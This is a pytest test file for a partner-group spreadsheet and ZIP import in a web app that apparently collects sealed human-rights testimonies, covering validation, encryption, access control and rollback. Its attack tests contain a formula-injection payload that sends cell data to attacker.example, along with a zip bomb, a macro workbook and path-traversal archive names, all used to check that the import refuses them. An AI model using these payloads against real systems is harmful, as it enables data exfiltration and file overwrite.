"""Partner groups' spreadsheet import (issue 23, item 3), through the real pages with CSRF on,
by a group that an admin invited and that joined and logged in through the group pages: the
template, an import with bad rows (nothing stored), good rows (every row a sealed submission of
the group, with its files, in the group's space and the officers' queue), attacks on the sheet
and the ZIP, the staging a copy of the server would find during an import, and who may import
or read an import's status (not a logged-out or suspended group, not another group)."""
from __future__ import annotations

import csv
import io
import threading
import time
import zipfile
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from app.extensions import db
from app.models import Attachment, GroupImport, PartnerGroup, Submission
from app.models.base import utcnow
from app.services.groups import import_adapter, import_jobs
from app.services.groups.sheet_template import COLUMNS
from tests.groups.pages import create_group, join
from tests.helpers import act, hidden_fields, image_bytes, opened, post_form, submit_report

HEADERS = [column.name for column in COLUMNS]  # codes are accepted as headers too


def joined_group(app, admin, client, name="함경북도 고향 모임", passphrase=None) -> SimpleNamespace:
    """An admin invites a group, and `client` joins with the code (joining logs it in)."""
    code = create_group(admin, name=name)
    number, _recovery = join(client, code, **({"passphrase": passphrase} if passphrase else {}))
    with app.app_context():
        group_id = db.session.scalar(sa.select(PartnerGroup.id).where(PartnerGroup.public_id == number))
    return SimpleNamespace(id=group_id, number=number, admin=admin)


@pytest.fixture
def group(app, auth, client):
    """`client` is the logged-in session of a real partner group (app/public/group_session.py)."""
    admin = app.test_client()
    auth.login("admin", client=admin, contact_access=True)
    return joined_group(app, admin, client)


def on_sqlite(app) -> bool:
    return app.config["SQLALCHEMY_DATABASE_URI"].startswith("sqlite")


def csv_bytes(rows: list[dict], headers: list[str] = HEADERS) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(headers)
    for row in rows:
        writer.writerow([row.get(name, "") for name in HEADERS])
    return buffer.getvalue().encode("utf-8-sig")


def xlsx_bytes(rows: list[list], headers: list[str] = HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def upload(client, lang: str, sheet: bytes, sheet_name: str = "sheet.csv", archive: bytes | None = None):
    data = {"sheet": (io.BytesIO(sheet), sheet_name)}
    if archive is not None:
        data["archive"] = (io.BytesIO(archive), "files.zip")
    return post_form(client, f"/{lang}/group/import", data)


def stored(app) -> tuple[int, int, int]:
    """Submissions, attachments and files in UPLOAD_DIR (staging included)."""
    with app.app_context():
        items = db.session.scalar(sa.select(sa.func.count()).select_from(Submission))
        files = db.session.scalar(sa.select(sa.func.count()).select_from(Attachment))
        db.session.rollback()
    on_disk = sum(1 for path in Path(app.config["UPLOAD_DIR"]).rglob("*") if path.is_file())
    return items, files, on_disk


def finish(client, response, lang="ko"):
    """Follow the upload to its status page, wait for the job and read the page again."""
    assert response.status_code == 303, response.get_data(as_text=True).split("<main", 1)[-1][:3000]
    location = response.headers["Location"]
    token = location.rsplit("/", 1)[-1]
    import_jobs.wait(token)
    page = client.get(location)
    assert page.status_code == 200
    return token, page.get_data(as_text=True)


GOOD = {"narrative": "회령 집결소에서 두 사람이 맞았습니다.", "province": "함경북도", "when_year": "2019",
        "when_month": "3", "consent_un": "예"}


# --- the template ---------------------------------------------------------------------------

@pytest.mark.parametrize("lang,narrative_header,province", [("ko", "어떤 일이 있었나요? *", "함경북도"),
                                                            ("en", "What happened? *", "North Hamgyong")])
def test_template_csv_and_xlsx_have_headers_example_and_answers_but_no_data_and_no_cookie(
        client, app, lang, narrative_header, province):
    client.post(f"/{lang}/report", data={})  # nothing of anyone's must reach the template
    csv_response = client.get(f"/{lang}/group/template.csv")
    assert csv_response.status_code == 200
    assert "Set-Cookie" not in csv_response.headers
    assert csv_response.headers["Cache-Control"] == "no-store"  # like every page: a phone check reads caches
    assert csv_response.data.startswith("\ufeff".encode())  # Excel reads the Hangul as UTF-8
    rows = list(csv.reader(io.StringIO(csv_response.data.decode("utf-8-sig"))))
    assert rows[0][0] == narrative_header and len(rows[0]) == len(COLUMNS)
    assert province in rows[1] and rows[1][0]  # the filled example row
    assert any(province in row for row in rows[3:])  # the allowed answers
    xlsx_response = client.get(f"/{lang}/group/template.xlsx")
    assert "Set-Cookie" not in xlsx_response.headers
    workbook = load_workbook(io.BytesIO(xlsx_response.data), read_only=True)
    reports, answers = workbook.worksheets
    cells = [[cell for cell in row if cell is not None] for row in reports.iter_rows(values_only=True)]
    cells = [row for row in cells if row]
    assert cells[0][0] == narrative_header and province in cells[1]
    assert len(cells) == 2  # headers and the example: no data
    assert any(province in row for row in answers.iter_rows(values_only=True))
    assert stored(app)[0] == 0


def test_the_template_example_uploaded_as_is_is_refused(client, app, group):
    template = client.get("/ko/group/template.csv").data
    response = upload(client, "ko", template)
    assert response.status_code == 422
    assert "양식에 들어 있던 예시" in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)


def test_import_pages_need_a_logged_in_group(client):
    assert client.get("/ko/group/import").headers["Location"].endswith("/ko/group")
    assert client.get("/en/group/import/abc").headers["Location"].endswith("/en/group")


# --- bad rows: every problem with its row and column, nothing stored ------------------------

@pytest.mark.parametrize("lang,expect", [
    ("ko", ["지역 또는 나라", "쓸 수 있는 답이 아닙니다", "어떤 일이 있었나요?", "ZIP 파일에 없습니다", "3", "4", "5"]),
    ("en", ["Province or country", "not one of the allowed answers", "What happened?", "is not in the ZIP file",
            "3", "4", "5"]),
])
def test_bad_rows_are_listed_by_row_and_column_and_nothing_is_stored(client, app, group, lang, expect):
    before = stored(app)
    sheet = csv_bytes([
        {**GOOD, "files": "photo.png"},
        {**GOOD, "province": "Atlantis"},  # row 3: not an allowed answer
        {**GOOD, "narrative": ""},  # row 4: required
        {**GOOD, "files": "missing.png"},  # row 5: not in the ZIP
    ])
    response = upload(client, lang, sheet, archive=zip_bytes({"photo.png": image_bytes("PNG"),
                                                              "extra.png": image_bytes("PNG")}))
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    for text in expect:
        assert text in page
    assert "extra.png" in page  # in the ZIP, named by no row
    assert ("다시 선택" if lang == "ko" else "choose them again") in page  # file inputs are not kept
    assert stored(app) == before == (0, 0, 0)
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(GroupImport)) == 0


# --- good rows ------------------------------------------------------------------------------

def test_500_rows_with_100_files_each_become_a_sealed_submission_with_its_files(client, app, group, org_keys):
    files = {f"사진{i:03}.png": image_bytes("PNG") for i in range(50)}
    files |= {f"note{i:03}.txt": f"statement {i}".encode() for i in range(50)}
    names = list(files)
    rows = []
    for i in range(500):
        row = {**GOOD, "narrative": f"증언 {i}: 보위부에서 조사를 받았습니다.", "categories": "",
               "perpetrator_type": "state_security" if i % 2 else "보위부"}
        if i < 100:
            row["files"] = names[i]
        rows.append(row)
    started = time.perf_counter()
    response = upload(client, "ko", csv_bytes(rows), archive=zip_bytes(files))
    token, page = finish(client, response)
    seconds = time.perf_counter() - started
    print(f"\n500 rows + 100 files imported in {seconds:.1f} s ({app.config['SQLALCHEMY_DATABASE_URI'][:10]})")
    assert "500" in page and "완료" in page
    with app.app_context():
        job = db.session.scalar(sa.select(GroupImport).where(GroupImport.token == token))
        assert (job.state, job.rows_done, job.rows_total) == ("done", 500, 500)
        items = db.session.scalars(sa.select(Submission).order_by(Submission.id)).all()
        assert len(items) == 500
        by_text = {}
        for item in items:
            opened(item, org_keys.keyring)
            by_text[item.narrative] = item
            assert item.public_id in page
        for i in range(500):
            item = by_text[f"증언 {i}: 보위부에서 조사를 받았습니다."]
            assert item.province == "KP-09" and item.perpetrator_type == "state_security" and item.consent_un
            assert [a.name for a in item.attachments] == ([names[i]] if i < 100 else [])
    assert not (Path(app.config["UPLOAD_DIR"]) / import_jobs.STAGING / token).exists()


def test_xlsx_headers_in_english_answers_in_both_languages(client, app, group, org_keys):
    headers = [column.header for column in COLUMNS]
    with app.test_request_context("/en/"):
        english = [str(header) for header in headers]
    sheet = xlsx_bytes([["One", "", "I know the year", "", 2015, "", "", "no", "China"],
                        ["Two", "", "몇 년도였는지 압니다", "", "2016년", "", "", "아니요", "중국"]],
                       headers=english[:9])
    response = upload(client, "en", sheet, "reports.xlsx")
    finish(client, response, "en")
    with app.app_context():
        items = db.session.scalars(sa.select(Submission).order_by(Submission.when_year)).all()
        assert [(i.when_year, i.when_precision, i.province) for i in items] == [(2015, "year", "CN"),
                                                                                 (2016, "year", "CN")]


# --- attacks --------------------------------------------------------------------------------

def test_a_formula_is_kept_as_text_and_never_evaluated(client, app, group, org_keys):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(HEADERS)
    sheet.append([formula, "", "", "", "", "", "", "", "", "=1+1"])  # narrative and place
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = upload(client, "ko", buffer.getvalue(), "x.xlsx")
    finish(client, response)
    with app.app_context():
        item = db.session.scalar(sa.select(Submission))
        opened(item, org_keys.keyring)
        assert item.narrative == formula and item.place == "=1+1"


def _bomb_xlsx() -> bytes:
    """A valid-looking .xlsx with a member that inflates to 60 MB."""
    real = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["x"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in real.infolist():
            archive.writestr(info.filename, real.read(info))
        archive.writestr("xl/media/padding.bin", b"\0" * (60 * 1024 * 1024))
    return buffer.getvalue()


@pytest.mark.parametrize("case,expect", [
    ("bomb", "열어 보면 너무 큽니다"),
    ("macros", "매크로"),
    ("xls", "읽을 수 없습니다"),
    ("too_many_rows", "500건"),
])
def test_dangerous_or_oversized_sheets_are_refused(client, app, group, case, expect):
    if case == "bomb":
        sheet, name = _bomb_xlsx(), "bomb.xlsx"
        assert len(sheet) < 1024 * 1024
    elif case == "macros":
        base = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["x"]])))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for info in base.infolist():
                archive.writestr(info.filename, base.read(info))
            archive.writestr("xl/vbaProject.bin", b"Attribute VB_Name")
        sheet, name = buffer.getvalue(), "macro.xlsm"
    elif case == "xls":
        sheet, name = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "Workbook".encode("utf-16-le"), "old.xls"
    else:
        sheet, name = csv_bytes([{**GOOD, "narrative": f"row {i}"} for i in range(501)]), "big.csv"
    response = upload(client, "ko", sheet, name)
    assert response.status_code == 422
    assert expect in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)


@pytest.mark.parametrize("member", ["../../escaped.png", "/etc/escaped.png", "C:/escaped.png"])
def test_a_zip_member_that_climbs_out_is_refused_before_anything_is_extracted(client, app, group, tmp_path, member):
    sheet = csv_bytes([{**GOOD, "files": "escaped.png"}])
    response = upload(client, "ko", sheet, archive=zip_bytes({member: image_bytes("PNG")}))
    assert response.status_code == 422
    assert "쓸 수 없는 이름" in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)
    upload_dir = Path(app.config["UPLOAD_DIR"])
    assert not list(upload_dir.parent.rglob("escaped.png"))


def test_a_zip_bomb_among_the_files_is_refused_by_its_declared_size(client, app, group):
    sheet = csv_bytes([{**GOOD, "files": "huge.txt"}])
    response = upload(client, "ko", sheet, archive=zip_bytes({"huge.txt": b"a" * (26 * 1024 * 1024)}))
    assert response.status_code == 422
    assert "huge.txt" in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)


# --- a copy of the server during an import --------------------------------------------------

def test_a_copy_taken_during_an_import_reveals_neither_rows_nor_files(client, app, group, monkeypatch):
    narrative_marker, file_marker = "비밀증언표지-7Q2", b"STAGED-FILE-MARKER-91X"
    paused, resume = threading.Event(), threading.Event()
    real = import_adapter.row_creator

    def pausing_creator(*args, **kwargs):
        create = real(*args, **kwargs)

        def create_row(session, row, files):
            if row.row == 3:  # the first row is in the open transaction: copy the server now
                paused.set()
                resume.wait(30)
            return create(session, row, files)

        return create_row

    monkeypatch.setattr(import_adapter, "row_creator", pausing_creator)
    rows = [{**GOOD, "narrative": f"{narrative_marker} {i}", "place": "무산군 비밀장소", "files": f"증거{i}.txt"}
            for i in range(3)]
    files = {f"증거{i}.txt": file_marker + b" %d" % i for i in range(3)}
    response = upload(client, "ko", csv_bytes(rows), archive=zip_bytes(files))
    assert response.status_code == 303
    assert paused.wait(30)
    try:
        upload_dir = Path(app.config["UPLOAD_DIR"])
        staged = list((upload_dir / import_jobs.STAGING).rglob("*"))
        assert [path for path in staged if path.is_file()], "the files are staged during the import"
        copy = b"".join(path.read_bytes() for path in upload_dir.rglob("*") if path.is_file())
        database = app.config["SQLALCHEMY_DATABASE_URI"]
        if database.startswith("sqlite:///"):
            base = Path(database.removeprefix("sqlite:///"))
            copy += b"".join(Path(f"{base}{suffix}").read_bytes() for suffix in ("", "-wal")
                             if Path(f"{base}{suffix}").exists())
        for secret in (narrative_marker.encode(), "비밀장소".encode(), file_marker, "증거".encode()):
            assert secret not in copy
        token = response.headers["Location"].rsplit("/", 1)[-1]
        running = import_jobs.in_process(token, group.id)
        assert running is not None and (running.done, running.total) == (1, 3)  # paused before the second row
        if not on_sqlite(app):
            # On SQLite every transaction takes the one write lock (app/database.py), and the
            # group's session is checked in the database: there the page waits for the import.
            status = client.get(response.headers["Location"]).get_data(as_text=True)
            assert "3건 중 1건" in status
    finally:
        resume.set()
        import_jobs.wait(response.headers["Location"].rsplit("/", 1)[-1])
    assert stored(app)[:2] == (3, 3)


# --- all or nothing when storing fails, and whose status page it is -------------------------

def test_a_failure_while_storing_keeps_nothing_not_even_the_files_already_written(client, app, group, monkeypatch):
    real = import_adapter.row_creator

    def failing_creator(*args, **kwargs):
        create = real(*args, **kwargs)

        def create_row(session, row, files):
            if row.row == 4:
                raise OSError("disk full")  # rows 2 and 3 and their files are in the transaction
            return create(session, row, files)

        return create_row

    monkeypatch.setattr(import_adapter, "row_creator", failing_creator)
    rows = [{**GOOD, "narrative": f"증언 {i}", "files": f"f{i}.png"} for i in range(3)]
    response = upload(client, "ko", csv_bytes(rows),
                      archive=zip_bytes({f"f{i}.png": image_bytes("PNG") for i in range(3)}))
    token, page = finish(client, response)
    assert "아무것도 저장되지 않았으니" in page
    assert stored(app) == (0, 0, 0)  # no submission, no attachment, no file, no staging
    with app.app_context():
        job = db.session.scalar(sa.select(GroupImport).where(GroupImport.token == token))
        assert (job.state, job.failure, job.submissions) == ("failed", "store_failed", None)


def test_a_group_suspended_while_its_import_is_stored_gets_nothing_stored(client, app, group, monkeypatch):
    """An admin suspends a group (its passphrase may be in the wrong hands) while its import is
    being stored: the import is not committed, its files are removed, and the job says why.
    The suspension is made in the import's own transaction here, which the check reads the
    same way it reads one an admin committed meanwhile on PostgreSQL."""
    real = import_adapter.row_creator

    def suspending_creator(*args, **kwargs):
        create = real(*args, **kwargs)

        def create_row(session, row, files):
            made = create(session, row, files)
            if row.row == 4:  # after the last row: each row's own check of the group has passed
                session.execute(sa.update(PartnerGroup).values(status="suspended"))
            return made

        return create_row

    monkeypatch.setattr(import_adapter, "row_creator", suspending_creator)
    rows = [{**GOOD, "narrative": f"증언 {i}", "files": f"f{i}.png"} for i in range(3)]
    response = upload(client, "ko", csv_bytes(rows),
                      archive=zip_bytes({f"f{i}.png": image_bytes("PNG") for i in range(3)}))
    token = response.headers["Location"].rsplit("/", 1)[-1]
    import_jobs.wait(token)
    assert stored(app) == (0, 0, 0)
    with app.app_context():
        job = db.session.scalar(sa.select(GroupImport).where(GroupImport.token == token))
        assert (job.state, job.failure) == ("failed", "group_suspended")
        assert db.session.scalar(sa.select(PartnerGroup.status)) == "active"  # the rollback took the test's change
    page = client.get(f"/ko/group/import/{token}").get_data(as_text=True)  # as the group sees it once reactivated
    assert "모임의 이용이 정지되어 가져오기를 멈췄습니다" in page and "아무것도 저장되지 않았습니다" in page


def test_another_group_cannot_read_the_status_page(client, app, group):
    response = upload(client, "en", csv_bytes([GOOD]))
    token, page = finish(client, response, "en")
    other = app.test_client()
    joined_group(app, group.admin, other, name="둘째 모임", passphrase="둘째 모임의 긴 비밀 문구")
    assert other.get(f"/en/group/import/{token}").status_code == 404  # the same answer as an unknown token
    assert other.get("/en/group/import/not-a-token").status_code == 404
    with app.app_context():
        public_id = db.session.scalar(sa.select(Submission.public_id))
    assert public_id in page and public_id not in other.get("/en/group/space").get_data(as_text=True)
    assert client.get(f"/en/group/import/{token}").status_code == 200  # its own group still reads it


def test_another_group_cannot_read_a_running_import(client, app, group, monkeypatch):
    """While the job runs, its status comes from the process's memory: that answer too is the
    importing group's only."""
    paused, resume = threading.Event(), threading.Event()
    real = import_adapter.row_creator

    def pausing_creator(*args, **kwargs):
        create = real(*args, **kwargs)

        def create_row(session, row, files):
            paused.set()
            resume.wait(30)
            return create(session, row, files)

        return create_row

    monkeypatch.setattr(import_adapter, "row_creator", pausing_creator)
    other = app.test_client()
    second = joined_group(app, group.admin, other, name="둘째 모임", passphrase="둘째 모임의 긴 비밀 문구")
    response = upload(client, "en", csv_bytes([GOOD]))
    assert response.status_code == 303
    token = response.headers["Location"].rsplit("/", 1)[-1]
    try:
        assert paused.wait(30)
        assert import_jobs.in_process(token, group.id) is not None
        assert import_jobs.in_process(token, second.id) is None
        if not on_sqlite(app):  # on SQLite a group page waits for the import's transaction
            assert other.get(f"/en/group/import/{token}").status_code == 404
            assert client.get(f"/en/group/import/{token}").status_code == 200
    finally:
        resume.set()
        import_jobs.wait(token)


def test_an_import_whose_process_died_says_interrupted(client, app, group):
    with app.app_context():
        db.session.add(GroupImport(token="deadjob", group_id=group.id, state="running", rows_total=9,
                                   lease_until=utcnow() - timedelta(seconds=1)))
        db.session.commit()
    page = client.get("/ko/group/import/deadjob").get_data(as_text=True)
    assert "저장이 끝나기 전에 멈췄습니다" in page


def test_the_korean_template_filled_in_korean_imports(client, app, group, org_keys):
    """The template's own headers, answers written as its Korean labels, saved by Excel on a
    Korean Windows (CP949, no byte order mark)."""
    rows = list(csv.reader(io.StringIO(client.get("/ko/group/template.csv").data.decode("utf-8-sig"))))
    headers, example = rows[0], rows[1]
    filled = [*example]
    filled[0] = "무산에서 있었던 일입니다."
    filled[-1] = ""  # no files
    buffer = io.StringIO()
    csv.writer(buffer).writerows([headers, filled])
    response = upload(client, "ko", buffer.getvalue().encode("cp949"))
    finish(client, response)
    with app.app_context():
        item = db.session.scalar(sa.select(Submission))
        opened(item, org_keys.keyring)
        assert (item.narrative, item.province, item.facility_type, item.when_year, item.when_month) == (
            "무산에서 있었던 일입니다.", "KP-09", "jipgyolso", 2019, 3)
        assert item.consent_un and not item.consent_publication
        assert [category.code for category in item.categories]  # the example's category, by its label


def test_a_sheet_over_10_mb_is_refused_unread(client, app, group):
    big = csv_bytes([{**GOOD, "narrative": "가" * 19_000}] * 200)
    assert len(big) > 10 * 1024 * 1024
    response = upload(client, "en", big)
    assert response.status_code == 422
    assert "This sheet is too large" in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)


def test_one_import_at_a_time_per_group(client, app, group):
    with app.app_context():
        db.session.add(GroupImport(token="underway", group_id=group.id, state="running", rows_total=9,
                                   lease_until=utcnow() + timedelta(minutes=5)))
        db.session.commit()
    response = upload(client, "en", csv_bytes([GOOD]))
    assert response.status_code == 422
    assert "An import is already under way" in response.get_data(as_text=True)
    assert stored(app) == (0, 0, 0)


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_the_login_page_links_the_templates_and_the_space_links_the_import(app, auth, client, lang):
    login_page = app.test_client().get(f"/{lang}/group")
    html = login_page.get_data(as_text=True)
    assert f"/{lang}/group/template.xlsx" in html and f"/{lang}/group/template.csv" in html
    assert "Set-Cookie" not in login_page.headers
    admin = app.test_client()
    auth.login("admin", client=admin, contact_access=True)
    join(client, create_group(admin), lang=lang)
    assert f'href="/{lang}/group/import"' in client.get(f"/{lang}/group/space").get_data(as_text=True)


# --- the group core and the import together --------------------------------------------------

def test_an_imported_row_is_in_the_groups_space_with_its_thread_and_in_the_queue_filter(client, app, auth, group):
    sheet = csv_bytes([{**GOOD, "narrative": "가져온 증언: 무산 보위부에서 조사를 받았습니다.", "files": "사진.png"}])
    _token, _page = finish(client, upload(client, "ko", sheet, archive=zip_bytes({"사진.png": image_bytes("PNG")})))
    with app.app_context():
        item = db.session.scalar(sa.select(Submission))
        # The group's submission: no receipt code, the content key also sealed to the group's key.
        assert item.group_id == group.id and item.receipt_lookup is None and item.key_for_group
        assert len(item.attachments) == 1
        public_id = item.public_id
    assert public_id in client.get("/ko/group/space").get_data(as_text=True)
    officer = app.test_client()
    auth.login("officer", client=officer)
    assert act(officer, public_id, "message", {"body": "몇 년도에 있었던 일인가요?"}).status_code == 302
    thread = client.get(f"/ko/group/space/items/{public_id}").get_data(as_text=True)
    assert "가져온 증언: 무산 보위부에서" in thread and "몇 년도에 있었던 일인가요?" in thread
    submit_report(app.test_client(), narrative="개인이 보낸 제보입니다.")
    with app.app_context():
        single = db.session.scalar(sa.select(Submission.public_id).where(Submission.group_id.is_(None)))
    filtered = officer.get(f"/staff/?group={group.number}").get_data(as_text=True)
    assert public_id in filtered and single not in filtered


def test_a_suspended_groups_session_can_neither_import_nor_read_the_status(client, app, group):
    token, _page = finish(client, upload(client, "ko", csv_bytes([GOOD])))
    form = hidden_fields(client.get("/ko/group/import").get_data(as_text=True))  # a valid CSRF token, kept
    before = stored(app)
    assert post_form(group.admin, f"/admin/groups/{group.number}/suspend", {},
                     page_url="/admin/groups").status_code in (200, 302)
    for url in ("/ko/group/import", f"/ko/group/import/{token}"):
        response = client.get(url)
        assert response.status_code == 302 and response.headers["Location"].endswith("/ko/group"), url
    sheet = csv_bytes([{**GOOD, "narrative": "정지된 뒤에 보낸 증언입니다."}])
    refused = client.post("/ko/group/import", data={**form, "sheet": (io.BytesIO(sheet), "sheet.csv")},
                          content_type="multipart/form-data")
    assert refused.status_code == 302 and refused.headers["Location"].endswith("/ko/group")
    assert stored(app) == before
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count()).select_from(GroupImport)) == 1
